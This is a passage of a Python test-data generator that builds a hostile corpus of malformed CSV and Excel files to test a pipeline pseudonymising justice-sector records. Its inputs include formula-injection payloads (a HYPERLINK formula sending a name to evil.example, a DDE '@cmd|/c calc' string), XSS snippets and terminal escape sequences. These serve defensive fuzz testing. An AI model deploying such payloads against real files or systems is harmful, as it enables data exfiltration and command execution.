"""A hostile corpus: a seeded generator of files no delivery should hold, written independently of the pipeline
(issue 14: random bytes, encodings, BOMs, NULs, line endings, quotes, widths, huge cells, headers, formulas,
markup, numbers, dates, blank rows, special files, workbooks of every odd make, identifiers in odd places).

`generate(folder)` writes every file into a folder of its own, `<folder>/<nnnn>/<month>/<name>` (the month folder
gives the reporting month), and returns one Case per file: its category, the identifiers it carries (which no
output may hold in clear text), and the normalised identifiers of its rows by line, so that a row that passes
can be checked against its exact pseudonym. Every identifier is unique to its file, so a leak found anywhere
names the file it came from.
"""
from __future__ import annotations

import codecs
import csv
import io
import os
import random
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from conftest import DEFAULTS, xlsx_bytes

MONTH = "2024-01"
SEED = 14
PERSON_COLUMNS = {"investigations": ["person_id"], "prosecutions": ["person_id"],
                  "judgments": ["person_id", "judge_id"], "victims": ["victim_id"]}
# the limits the corpus is validated under (small, so that a bomb or a flood of rows is met in bounded time)
MAX_ROWS = 20_000
MAX_FILE_MB = 16


@dataclass
class Case:
    number: int
    category: str
    what: str  # one line: what is hostile about the file
    source: str | None  # None for a file named after no source
    path: Path = None
    identifiers: list[str] = field(default_factory=list)  # in clear nowhere: terminal, JSON, warehouse, reports
    # line -> {person column: normalised identifier} of the rows written as rows (a valid row must match)
    rows: dict[int, dict[str, str]] = field(default_factory=dict)
    all_valid: bool = False  # unless the file is refused, every row in `rows` must pass with these pseudonyms
    exits: tuple[int, ...] = (0, 1, 2)  # the `validate` exit codes the file may give
    count: int | None = None  # the data rows a file not refused must be read as (None: not foreseeable)
    special: bool = False  # not a regular file: validated in a process of its own

    @property
    def label(self) -> str:
        return f"{self.category}#{self.number:04d}"


# ------------------------------------------------------------------------------------------- identifiers
def person(n: int, k: int) -> str:
    return f"PX{n:04d}{k:02d}QZ"


def victim(n: int, k: int) -> str:
    return f"V9{n:04d}{k:02d}"


def judge(n: int, k: int) -> str:
    return f"JX{n:04d}{k:02d}KW"


def personal_number(n: int) -> str:
    return f"1{n:04d}87339021"  # 13 digits, as a Kosovo personal number


def name(n: int) -> str:
    letters = "".join(chr(ord("a") + (n // 26 ** i) % 26) for i in range(3))
    return f"Agimzan{letters}"


def row(source: str, n: int, k: int) -> dict[str, str]:
    """A valid row of `source` for file n, row k; its identifiers are unique to (n, k)."""
    case = f"PR-{n:04d}{k:02d}/2024"
    values = dict(DEFAULTS[source])
    if source == "investigations":
        values.update(case_id=case, person_id=person(n, k))
    elif source == "prosecutions":
        values.update(prosecution_id=f"PPS-PR-{n:04d}{k:02d}/2024", case_id=case, person_id=person(n, k))
    elif source == "judgments":
        values.update(judgment_id=f"P-PR-{n:04d}{k:02d}/2024", prosecution_id=f"PPS-PR-{n:04d}{k:02d}/2024",
                      person_id=person(n, k), judge_id=judge(n, k))
    else:
        values.update(victim_id=victim(n, k), case_id=case)
    return values


def ids_of(source: str, values: dict[str, str]) -> dict[str, str]:
    return {c: values[c] for c in PERSON_COLUMNS[source]}


def csv_of(header: list[str], rows: list[list[str]], sep: str = ",", eol: str = "\n") -> str:
    """CSV text quoted as a spreadsheet writes it: a cell holding the delimiter, a quote, CR or LF in quotes
    (csv.writer leaves a CR unquoted when the line ends in LF alone)."""
    def cell(text: str) -> str:
        return f'"{text.replace(chr(34), chr(34) * 2)}"' if any(ch in text for ch in (sep, '"', "\r", "\n")) else text
    return "".join(sep.join(map(cell, line)) + eol for line in [header, *rows])


# ------------------------------------------------------------------------------------------------- XLSX
FIXED_TIME = (2024, 1, 31, 12, 0, 0)  # of every zip entry, so that the corpus is the same bytes on every run


def put(archive: zipfile.ZipFile, name: str, data: str | bytes) -> None:
    archive.writestr(zipfile.ZipInfo(name, FIXED_TIME), data, zipfile.ZIP_DEFLATED)


def stable(workbook: bytes) -> bytes:
    """An openpyxl workbook with fixed times (of its zip entries and its document properties)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-31T12:00:00Z", data)
            put(target, info.filename, data)
    return buffer.getvalue()


CT = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
STRICT_MAIN = "http://purl.oclc.org/ooxml/spreadsheetml/main"
STRICT_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def column_letter(i: int) -> str:
    letters = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        letters = chr(65 + r) + letters
    return letters


def cell_xml(ref: str, value) -> str:
    """A str is an inline string; ("n", text) a number cell with that exact text; ("d", text) a number cell
    with the date style; an int or float a number cell."""
    if isinstance(value, tuple):
        kind, text = value
        style = ' s="1"' if kind == "d" else ""
        return f'<c r="{ref}"{style}><v>{text}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    text = (value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(rows: list[tuple[int, list]], main: str = MAIN) -> str:
    body = "".join(f'<row r="{r}">' + "".join(cell_xml(f"{column_letter(i)}{r}", v) for i, v in enumerate(cells)
                                              if v is not None) + "</row>" for r, cells in rows)
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{main}"><sheetData>{body}</sheetData></worksheet>'


STYLES = (f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{MAIN}"><fonts count="1"><font><sz val="11"/>'
          '<name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill>'
          '</fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs>'
          '<cellXfs count="2"><xf numFmtId="0"/>'
          '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>')


def package(sheets: list[dict], strict: bool = False) -> bytes:
    """A workbook written by hand. Each sheet: {"xml": text, "name": ..., "state": "hidden"|None,
    "chart": bool}."""
    main, rel = (STRICT_MAIN, STRICT_REL) if strict else (MAIN, REL)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        overrides = ['<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                     'officedocument.spreadsheetml.sheet.main+xml"/>',
                     '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-'
                     'officedocument.spreadsheetml.styles+xml"/>']
        entries, rels = [], []
        for i, sheet in enumerate(sheets, start=1):
            folder, kind = ("chartsheets", "chartsheet") if sheet.get("chart") else ("worksheets", "worksheet")
            part = f"xl/{folder}/sheet{i}.xml"
            overrides.append(f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-'
                             f'officedocument.spreadsheetml.{kind}+xml"/>')
            state = f' state="{sheet["state"]}"' if sheet.get("state") else ""
            entries.append(f'<sheet name="{sheet.get("name", f"Sheet{i}")}" sheetId="{i}"{state} r:id="rId{i}"/>')
            rels.append(f'<Relationship Id="rId{i}" Type="{rel}/{kind}" Target="{folder}/sheet{i}.xml"/>')
            put(z, part, sheet["xml"])
        rels.append(f'<Relationship Id="rId{len(sheets) + 1}" Type="{rel}/styles" Target="styles.xml"/>')
        put(z, "[Content_Types].xml",
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>' + "".join(overrides) + "</Types>")
        put(z, "_rels/.rels", f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
                              f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
                              "</Relationships>")
        put(z, "xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" '
                                  f'xmlns:r="{rel}"><sheets>{"".join(entries)}</sheets></workbook>')
        put(z, "xl/_rels/workbook.xml.rels", f'<?xml version="1.0" encoding="UTF-8"?><Relationships '
                                             f'xmlns="{PKG}">{"".join(rels)}</Relationships>')
        put(z, "xl/styles.xml", STYLES.replace(MAIN, main))
    return buffer.getvalue()


CHART = ('<?xml version="1.0" encoding="UTF-8"?><chartsheet xmlns="http://schemas.openxmlformats.org/'
         'spreadsheetml/2006/main"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>')


# ------------------------------------------------------------------------------------------------ corpus
class Corpus:
    def __init__(self, folder: Path, seed: int):
        self.folder, self.random, self.cases = folder, random.Random(seed), []

    def add(self, category: str, what: str, source: str | None, content: bytes | None, *, file_name: str | None = None,
            identifiers: list[str] = (), rows: dict | None = None, all_valid: bool = False, exits=(0, 1, 2),
            count: int | None = None, suffix: str = ".csv") -> Case:
        case = Case(len(self.cases), category, what, source, identifiers=list(dict.fromkeys(identifiers)),
                    rows=rows or {}, all_valid=all_valid, exits=tuple(exits), count=count)
        case.path = self.folder / f"{case.number:04d}" / MONTH / (file_name or f"{source}{suffix}")
        case.path.parent.mkdir(parents=True, exist_ok=True)
        if content is not None:
            case.path.write_bytes(content)
        self.cases.append(case)
        return case

    def n(self) -> int:
        return len(self.cases)

    def rows_file(self, source: str, count: int = 2, change=None, eol: str = "\n"):
        """CSV text of `count` valid rows of the next file, the k-th altered by change(k, values) if given,
        with the identifiers it was written with and the normalised identifiers of each row by line."""
        n = self.n()
        header = list(DEFAULTS[source])
        body, identifiers, lines = [], [], {}
        for k in range(count):
            values = row(source, n, k)
            identifiers += list(ids_of(source, values).values())
            lines[k + 2] = ids_of(source, values)
            if change is not None:
                values = change(k, values) or values
            body.append([values[c] for c in header])
        return csv_of(header, body, eol=eol), identifiers, lines

    def valid(self, category: str, what: str, source: str, data: bytes, identifiers, lines, **kw) -> Case:
        kw.setdefault("exits", (0,))
        return self.add(category, what, source, data, identifiers=identifiers, rows=lines, all_valid=True,
                        count=len(lines), **kw)


SOURCES = list(DEFAULTS)


def generate(folder: Path, seed: int = SEED) -> list[Case]:
    corpus = Corpus(folder, seed)
    for make in (random_bytes, encodings, boms, nuls, line_endings, quotes, widths, huge_cells, headers,
                 formulas, markup, numbers, dates, blank_rows, identifiers_in_odd_places, file_names, xlsx,
                 special_files):
        make(corpus)
    return corpus.cases


# ---------------------------------------------------------------------------------------------- categories
def random_bytes(c: Corpus) -> None:
    for i in range(150):
        source = SOURCES[i % 4]
        n = c.n()
        secret = person(n, 0)
        size = c.random.choice([1, 7, 64, 511, 4096, 20_000])
        noise = bytes(c.random.getrandbits(8) for _ in range(size))
        if i % 3 == 0:  # printable noise, so that it gets past the encoding and into the CSV reader
            noise = bytes(c.random.choice(b'abc,;"\r\n\t =+-@<>0123456789') for _ in range(size))
        cut = c.random.randrange(len(noise) + 1)
        data = noise[:cut] + secret.encode() + noise[cut:]
        if i % 5 == 1:
            data = ",".join(DEFAULTS[source]).encode() + b"\n" + data
        c.add("random_bytes", f"{size} random bytes{' after a header' if i % 5 == 1 else ''}", source, data,
              identifiers=[secret], suffix=".xlsx" if i % 10 == 9 else ".csv")


def encodings(c: Corpus) -> None:
    marks = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-32-le": codecs.BOM_UTF32_LE,
             "utf-32-be": codecs.BOM_UTF32_BE}
    wide = ["utf-16", "utf-32", *marks]  # utf-16 and utf-32 write a byte-order mark of their own
    narrow = ["cp1250", "cp1252", "iso-8859-2"]
    for i in range(80):
        source = "investigations" if i % 2 == 0 or i >= 66 else "victims"
        text, identifiers, lines = c.rows_file(
            source, 3, change=(lambda k, v: {**v, "region": "Prishtinë"}) if source == "investigations" else None)
        if i < 36:
            encoding = wide[i % len(wide)]
            bom = marks.get(encoding, b"") if i % 12 >= 6 else b""
            c.add("encodings", f"{encoding}{' with a BOM' if bom or encoding in ('utf-16', 'utf-32') else ''}",
                  source, bom + text.encode(encoding), identifiers=identifiers, rows=lines)
        elif i < 66:
            encoding = narrow[i % 3]
            c.add("encodings", encoding, source, text.encode(encoding), identifiers=identifiers, rows=lines)
        else:  # UTF-8 ("Prishtinë" in every row) but for one line in Windows-1250: the file mixes two encodings
            head, *body = text.splitlines(keepends=True)
            bad = (i - 66) % len(body)
            data = head.encode() + b"".join(line.encode("cp1250" if j == bad else "utf-8")
                                            for j, line in enumerate(body))
            c.add("encodings", f"UTF-8 but for line {bad + 2} in Windows-1250", source, data, identifiers=identifiers,
                  rows=lines, exits=(2,))  # refused naming the line, wherever it is


def boms(c: Corpus) -> None:
    bom = codecs.BOM_UTF8
    for i in range(40):
        source = SOURCES[i % 4]
        text, identifiers, lines = c.rows_file(source, 3)
        kind = i % 5
        if kind == 0:
            c.valid("boms", "no BOM", source, text.encode(), identifiers, lines)
        elif kind == 1:
            c.valid("boms", "one BOM", source, bom + text.encode(), identifiers, lines)
        elif kind == 2:
            c.add("boms", "double BOM", source, bom + bom + text.encode(), identifiers=identifiers, rows=lines)
        elif kind == 3:  # each victim_id (the first column) would change silently if the BOM were kept
            data = b"".join(bom + line.encode() for line in text.splitlines(keepends=True))
            c.valid("boms", "a BOM at the start of every line", source, data, identifiers, lines)
        else:
            data = text.encode().replace(b"\n", b"\n" + bom, 1)  # a BOM before the first data row only
            c.add("boms", "a BOM before the first row", source, data, identifiers=identifiers, rows=lines)


def nuls(c: Corpus) -> None:
    for i in range(40):
        source = SOURCES[i % 4]
        text, identifiers, lines = c.rows_file(source, 2)
        data = text.encode()
        kind = i % 5
        if kind == 0:
            data = data.replace(b",", b",\x00", 1)
        elif kind == 1:
            data = data + b"\x00"
        elif kind == 2:
            data = data.replace(identifiers[0].encode(), identifiers[0].encode() + b"\x00")
        elif kind == 3:
            data = b"\x00".join(data[j:j + 1] for j in range(len(data)))
        else:
            data = b"\x00" * 4096 + data
        c.add("nuls", ["NUL after the first comma", "NUL at the end", "NUL inside an identifier",
                       "NUL between every byte", "4096 NULs first"][kind], source, data, identifiers=identifiers,
              rows=lines)


def line_endings(c: Corpus) -> None:
    for i in range(40):
        source = SOURCES[i % 4]
        kind = i % 4
        eol = ["\n", "\r\n", "\r", "\n"][kind]
        text, identifiers, lines = c.rows_file(source, 3, eol=eol)
        if kind == 3:  # mixed: LF, CRLF, CR
            parts = text.split("\n")
            text = parts[0] + "\n" + parts[1] + "\r\n" + parts[2] + "\r" + "\n".join(parts[3:])
        data = text.encode()
        what = ["LF", "CRLF", "CR", "mixed LF, CRLF and CR"][kind]
        if kind < 2:
            c.valid("line_endings", what, source, data, identifiers, lines)
        else:
            c.add("line_endings", what, source, data, identifiers=identifiers, rows=lines, count=len(lines))


def quotes(c: Corpus) -> None:
    for i in range(50):
        source = SOURCES[i % 4]
        kind = i % 5
        n = c.n()
        text, identifiers, lines = c.rows_file(source, 3)
        head, first, second, third = text.splitlines(keepends=True)
        if kind == 0:  # an unterminated quote: the rest of the file, identifiers and all, is one cell
            cells = second.split(",")
            second = cells[0] + ',"' + ",".join(cells[1:])
            c.add("quotes", "unterminated quote in the second row", source, (head + first + second + third).encode(),
                  identifiers=identifiers, rows=lines)
        elif kind == 1:  # a stray quote in the middle of a cell
            column = PERSON_COLUMNS[source][0]
            sent = lines[3][column]
            strayed = sent[:3] + '"' + sent[3:]  # read as it stands, quote and all
            second = second.replace(sent, strayed, 1)
            lines[3] = {**lines[3], column: strayed}
            c.add("quotes", "stray quote inside an identifier", source, (head + first + second + third).encode(),
                  identifiers=identifiers + [strayed], rows=lines)
        elif kind == 2:  # every cell quoted, quotes doubled: valid
            def quote_all(line: str) -> str:
                return ",".join(f'"{cell}"' for cell in line.rstrip("\n").split(",")) + "\n"
            data = head + "".join(quote_all(x) for x in (first, second, third))
            c.valid("quotes", "every cell quoted", source, data.encode(), identifiers, lines)
        elif kind == 3:  # a quoted cell with a doubled quote and a line break in an optional code column
            column = {"investigations": "status", "prosecutions": "court", "judgments": "mitigation",
                      "victims": "citizenship"}[source]
            position = list(DEFAULTS[source]).index(column)
            cells = next(csv.reader([second]))
            cells[position] = f'saw ""{identifiers[0]}""\nleft'  # the identifier of the row before
            second = ",".join(f'"{x}"' if j == position else x for j, x in enumerate(cells)) + "\n"
            c.add("quotes", "doubled quotes, a line break and an identifier in a code cell", source,
                  (head + first + second + third).encode(), identifiers=identifiers, rows={2: lines[2]})
        else:  # the unterminated quote of the issue, in judgments and prosecutions too
            secret = f"PERSONX{n:04d}"
            cells = second.rstrip("\n").split(",")
            second = ",".join(cells[:1]) + f',"{cells[1]},{secret},' + ",".join(cells[2:]) + "\n"
            c.add("quotes", "unterminated quote before a person's identifier", source,
                  (head + first + second + third).encode(), identifiers=identifiers + [secret], rows=lines)


def widths(c: Corpus) -> None:
    for i in range(40):
        source = SOURCES[i % 4]
        kind = i % 5
        text, identifiers, lines = c.rows_file(source, 3)
        head, first, second, third = text.splitlines(keepends=True)
        if kind == 0:
            second = ",".join(second.split(",")[:3]) + "\n"
            what = "a short row"
        elif kind == 1:
            second = second.rstrip("\n") + "," + ",".join([personal_number(c.n())] * 3) + "\n"
            identifiers = identifiers + [personal_number(c.n())]
            what = "a long row holding a personal number"
        elif kind == 2:
            header = head.rstrip("\n").split(",") + [f"extra{j}" for j in range(1200)]
            head = ",".join(header) + "\n"
            what = "1,200 extra columns"
        elif kind == 3:
            second = second.rstrip("\n") + "," * 1500 + "\n"
            what = "a row 1,500 cells too long (empty)"
        else:
            head = head.rstrip("\n") + "," * 1100 + "\n"
            what = "a header with 1,100 blank names"
        c.add("widths", what, source, (head + first + second + third).encode(), identifiers=identifiers, rows=lines)


def huge_cells(c: Corpus) -> None:
    big = 1_048_577
    n = c.n()
    # defect 1 exactly: the victims header, then `V1,` and 1,048,577 x `x`
    c.add("huge_cells", "the issue's reproduction: V1, then 1,048,577 x", "victims",
          (",".join(DEFAULTS["victims"]) + "\n" + "V1," + "x" * big + "\n").encode())
    c.add("huge_cells", "the reproduction with a recognisable victim_id", "victims",
          (",".join(DEFAULTS["victims"]) + "\n" + f"{victim(n + 1, 0)}," + "x" * big + "\n").encode(),
          identifiers=[victim(n + 1, 0)])
    for i in range(11):
        source = SOURCES[i % 4]
        n = c.n()
        text, identifiers, lines = c.rows_file(source, 2)
        head, first, second = text.splitlines(keepends=True)
        first_column = list(DEFAULTS[source])[0]
        filler = (personal_number(n) * (big // 13 + 1)) if i % 3 == 0 else "y" * big
        if i % 2 == 0:  # an even row: as many cells as the header
            cells = second.rstrip("\n").split(",")
            cells[1] = filler
            second = ",".join(cells) + "\n"
            what = f"a cell over 1 MiB in an even row ({first_column} kept)"
        else:  # an uneven row
            second = second.rstrip("\n") + "," + filler + "\n"
            what = "a cell over 1 MiB in a row with one cell too many"
        if i % 4 == 3:
            second = '"' + filler[:1000] + second  # and inside an unterminated quote
            what += ", after an unterminated quote"
        c.add("huge_cells", what, source, (head + first + second).encode(),
              identifiers=identifiers + ([personal_number(n)] if i % 3 == 0 else []), rows={2: lines[2]})


def headers(c: Corpus) -> None:
    for i in range(70):
        source = SOURCES[i % 4]
        kind = i % 10
        n = c.n()
        text, identifiers, lines = c.rows_file(source, 2)
        head, *body = text.splitlines(keepends=True)
        names = head.rstrip("\n").split(",")
        what = ""
        if kind == 0:
            head, what = "", "no header: data first"
        elif kind == 1:
            names[2] = names[1]
            what = "a duplicate column"
        elif kind == 2:
            names[3] = ""
            what = "a blank header name"
        elif kind == 3:
            names[-1] = person(n, 9)
            identifiers.append(person(n, 9))
            what = "an identifier as a header name"
        elif kind == 4:
            names.append(personal_number(n))
            body = [b.rstrip("\n") + ",x\n" for b in body]
            identifiers.append(personal_number(n))
            what = "a personal number as an extra header name"
        elif kind == 5:
            names[-1] = f"<script>alert('{name(n)}')</script>"
            identifiers.append(name(n))
            what = "markup as a header name"
        elif kind == 6:
            names[1] = "=HYPERLINK(\"http://x\")"
            what = "a formula as a header name"
        elif kind == 7:
            names = [x.upper().replace("_", " ") for x in names]
            what = "header names upper case with spaces"
        elif kind == 8:
            names = names[: len(names) // 2]
            what = "half the header missing"
        else:
            names = names + ["Emri"]  # a column of names: dropped unread, its values nowhere
            body = [b.rstrip("\n") + f",{name(n)}\n" for b in body]
            identifiers.append(name(n))
            what = "a column of names (Emri)"
        if kind != 0:
            head = ",".join(names) + "\n"
        data = (head + "".join(body)).encode()
        if kind == 7:
            c.valid("headers", what, source, data, identifiers, lines)
        else:
            c.add("headers", what, source, data, identifiers=identifiers, rows=lines)


CODE_COLUMNS = {"investigations": ["region", "sex", "status", "exploitation_form", "citizenship"],
                "prosecutions": ["office", "sex", "decision", "citizenship"],
                "judgments": ["court", "verdict", "instance", "sex", "mitigation"],
                "victims": ["identified_by", "sex", "exploitation_form", "citizenship"]}
ANY_COLUMNS = {s: [c for c in DEFAULTS[s] if c not in PERSON_COLUMNS[s]] for s in DEFAULTS}


def formulas(c: Corpus) -> None:
    prefixes = ["=", "+", "-", "@", "\t=", "\r="]
    for i in range(60):
        source = SOURCES[i % 4]
        n = c.n()
        column = ANY_COLUMNS[source][i % len(ANY_COLUMNS[source])]
        kind = i % 6
        payload = ["=1+3", f"=HYPERLINK(\"http://evil.example/?{name(n)}\",\"x\")", "+SUM(A1:A9)", "-2+3",
                   f"@cmd|'/c calc'!{personal_number(n)}", prefixes[(i // 6) % len(prefixes)] + "1"][kind]
        extra = [name(n)] if kind == 1 else [personal_number(n)] if kind == 4 else []
        text, identifiers, lines = c.rows_file(source, 2, change=lambda k, v: {**v, column: payload} if k == 1 else v)
        c.add("formulas", f"{payload[:20]!r} in {column}", source, text.encode(), identifiers=identifiers + extra,
              rows=lines, count=len(lines))
    for i in range(12):  # a formula as the identifier itself
        source = SOURCES[i % 4]
        n = c.n()
        column = PERSON_COLUMNS[source][0]
        formula = f"={person(n, 1)}+1"
        text, identifiers, lines = c.rows_file(source, 2, change=lambda k, v: {**v, column: formula} if k == 1 else v)
        lines[3] = {**lines[3], column: formula}
        c.add("formulas", "a formula as a person's identifier", source, text.encode(),
              identifiers=identifiers + [formula], rows=lines, count=len(lines))


def markup(c: Corpus) -> None:
    payloads = ["<script>alert({})</script>", '"><img src=x onerror=alert("{}")>', "[bold]{}[/bold]",
                "\x1b[31m{}\x1b[0m", "\x1b]0;{}\x07", "&lt;b&gt;{}"]
    for i in range(42):
        source = SOURCES[i % 4]
        n = c.n()
        column = CODE_COLUMNS[source][i % len(CODE_COLUMNS[source])]
        first_id = ids_of(source, row(source, n, 0))[PERSON_COLUMNS[source][0]]  # the row before's identifier
        payload = payloads[i % len(payloads)].format(first_id)
        text, identifiers, lines = c.rows_file(source, 2, change=lambda k, v: {**v, column: payload} if k == 1 else v)
        c.add("markup", f"{payload[:12]!r} in {column}", source, text.encode(), identifiers=identifiers, rows=lines,
              count=len(lines))


def numbers(c: Corpus) -> None:
    targets = [("judgments", "prison_months"), ("judgments", "fine_eur"), ("investigations", "birth_year"),
               ("victims", "age"), ("investigations", "victim_count"), ("prosecutions", "birth_year")]
    values = ["9" * 4301, "1" + "0" * 5000, "1e3", "1E+400", "١٩٨٠", "𝟙𝟡𝟠𝟘", "-1", "+60", "6,5", "6.5",
              "NaN",
              "inf", "0x1F", "99999999999", "1_000", "60 ", "½"]
    for i in range(len(targets) * 10):
        source, column = targets[i % len(targets)]
        value = values[(i // len(targets) + i) % len(values)]
        text, identifiers, lines = c.rows_file(source, 2, change=lambda k, v: {**v, column: value} if k == 1 else v)
        c.add("numbers", f"{column} = {value[:12]!r}{'…' if len(value) > 12 else ''} ({len(value)} chars)",
              source, text.encode(), identifiers=identifiers, rows=lines, count=len(lines))


def dates(c: Corpus) -> None:
    targets = [("investigations", "opened_on"), ("investigations", "status_on"), ("prosecutions", "decided_on"),
               ("judgments", "judgment_date"), ("judgments", "offence_date"), ("victims", "identified_on")]
    values = ["2024-02-30", "2023-02-29", "9999-12-31", "10000-01-01", "1899-12-31", "1999-12-31", "0000-00-00",
              "31.12.9999", "00.00.0000", "2024-1-5", "2024-01-05T00:00", "45292", "05/01/2024"]
    for i in range(60):
        source, column = targets[i % len(targets)]
        value = values[i % len(values)]
        text, identifiers, lines = c.rows_file(source, 2, change=lambda k, v: {**v, column: value} if k == 1 else v)
        c.add("dates", f"{column} = {value}", source, text.encode(), identifiers=identifiers, rows=lines,
              count=len(lines))


def blank_rows(c: Corpus) -> None:
    for i in range(20):
        source = SOURCES[i % 4]
        text, identifiers, lines = c.rows_file(source, 1)
        head, first = text.splitlines(keepends=True)
        width = len(DEFAULTS[source]) - 1
        filler = ["," * width + "\n", ",\n", "\n", "\r\n", " , \n"][i % 5]
        over = i % 2 == 0  # physical lines count against the row limit, blank or not
        count = MAX_ROWS + 1 + i * 97 if over else 500
        c.add("blank_rows", f"{count:,} lines of {filler!r} after a row (row limit {MAX_ROWS:,})", source,
              (head + first + filler * count).encode(), identifiers=identifiers, rows=lines,
              exits=(2,) if over else (0, 1, 2))


def identifiers_in_odd_places(c: Corpus) -> None:
    for i in range(60):
        source = SOURCES[i % 4]
        n = c.n()
        column = CODE_COLUMNS[source][i % len(CODE_COLUMNS[source])]
        first_id = ids_of(source, row(source, n, 0))[PERSON_COLUMNS[source][0]]
        secret, what = [(first_id, "the row before's identifier"), (personal_number(n), "a personal number"),
                        (f"{name(n)} Berishova-Krasniqi Xhemajli", "a full name"),
                        (f"{name(n)} {first_id.lower()}", "a name and an identifier")][i % 4]
        text, identifiers, lines = c.rows_file(source, 3, change=lambda k, v: {**v, column: secret} if k == 1 else v)
        c.add("identifiers_odd", f"{what} in {column}", source, text.encode(), identifiers=identifiers + [secret],
              rows=lines, count=len(lines))
    spellings = ["{}", " {} ", "{}".lower(), "\ufeff{}", "{}\u200b", "\u00a0{}\u00a0", "FULLWIDTH", "{}\u2060",
                 "{}\u00ad"]
    for i in range(27):  # one identifier spelled nine ways: one pseudonym
        source = ["victims", "investigations", "judgments"][i % 3]
        n = c.n()
        column = PERSON_COLUMNS[source][0]
        base = {"victims": victim, "investigations": person, "judgments": person}[source](n, 0)
        spelled = []
        for j, form in enumerate(spellings):
            if form == "FULLWIDTH":
                spelled.append("".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in base))
            elif j == 2:
                spelled.append(base.lower())
            else:
                spelled.append(form.format(base))
        rows, lines = [], {}
        for k, spelling in enumerate(spelled):
            values = row(source, n, k)
            values[column] = spelling
            if source == "judgments":
                values["judge_id"] = judge(n, 0)
            rows.append([values[c2] for c2 in DEFAULTS[source]])
            lines[k + 2] = {**ids_of(source, {**values, column: base})}
        data = csv_of(list(DEFAULTS[source]), rows).encode()
        c.valid("identifiers_odd", f"{column} spelled {len(spelled)} ways", source, data,
                [base, *[s for s in spelled if s.strip() != base]] + ([judge(n, 0)] if source == "judgments" else []),
                lines)


def file_names(c: Corpus) -> None:
    odd = ["victims\x1b[31m.csv", "victims\n.csv", "victims\r.csv", "victims\x1b]0;title\x07.csv",
           "victims.csv\x1b[2J", "\x1b[1Ainvestigations.csv", "judgments\t.csv", "victims\u202e.csv",
           "prosecutions\x7f.csv"]
    for i, file_name in enumerate(odd):
        text, identifiers, lines = c.rows_file("victims", 1)
        c.add("file_names", f"file name {file_name!r}", None, text.encode(), file_name=file_name,
              identifiers=identifiers, exits=(2,))
    for i in range(6):
        n = c.n()
        secret = [personal_number(n), f"{name(n)} Berishova-Krasniqi Xhemajli"][i % 2]
        text, identifiers, lines = c.rows_file("victims", 1)
        c.add("file_names", "a personal number or a full name in the file name", None, text.encode(),
              file_name=f"victims {secret}.csv", identifiers=identifiers + [secret], exits=(2,))


def xlsx(c: Corpus) -> None:
    # valid workbooks from openpyxl: identifiers as text and as whole numbers
    for i in range(16):
        source = SOURCES[i % 4]
        n = c.n()
        header = list(DEFAULTS[source])
        rows = [row(source, n, k) for k in range(3)]
        cells = [header] + [[v[h] for h in header] for v in rows]
        lines = {k + 2: ids_of(source, v) for k, v in enumerate(rows)}
        identifiers = [x for v in rows for x in ids_of(source, v).values()]
        if i % 2:
            column = header.index(PERSON_COLUMNS[source][0])
            for k in range(3):
                number = 10 ** 15 + n * 1000 + k if i % 4 == 1 else 4_000_000 + n * 10 + k
                cells[k + 1][column] = number
                lines[k + 2] = {**lines[k + 2], PERSON_COLUMNS[source][0]: str(number)}
                identifiers.append(str(number))
        c.valid("xlsx", f"openpyxl workbook{', number identifiers' if i % 2 else ''}", source, stable(xlsx_bytes(cells)),
                identifiers, lines, suffix=".xlsx")
    # hand-written sheets
    for i in range(48):
        source = SOURCES[i % 4]
        n = c.n()
        header = list(DEFAULTS[source])
        rows = [row(source, n, k) for k in range(3)]
        identifiers = [x for v in rows for x in ids_of(source, v).values()]
        body = [(k + 2, [v[h] for h in header]) for k, v in enumerate(rows)]
        lines = {k + 2: ids_of(source, v) for k, v in enumerate(rows)}
        kind = i % 12
        person_col = header.index(PERSON_COLUMNS[source][0])
        date_col = next(j for j, h in enumerate(header) if h.endswith(("_on", "_date")))
        sheets, strict, all_valid, exits = None, False, False, (0, 1, 2)
        if kind == 0:  # the reproduction: openpyxl kept one row of three
            order = [(1, header), (3, body[0][1]), (2, body[1][1]), (3, body[2][1])]
            what, exits = "rows numbered 1, 3, 2, 3 (out of order and twice)", (1, 2)
            sheets = [{"xml": sheet_xml(order)}]
            lines = {}
        elif kind == 1:
            order = [(1, header), (4, body[0][1]), (2, body[1][1]), (3, body[2][1])]
            what = "rows numbered 1, 4, 2, 3 (out of order)"
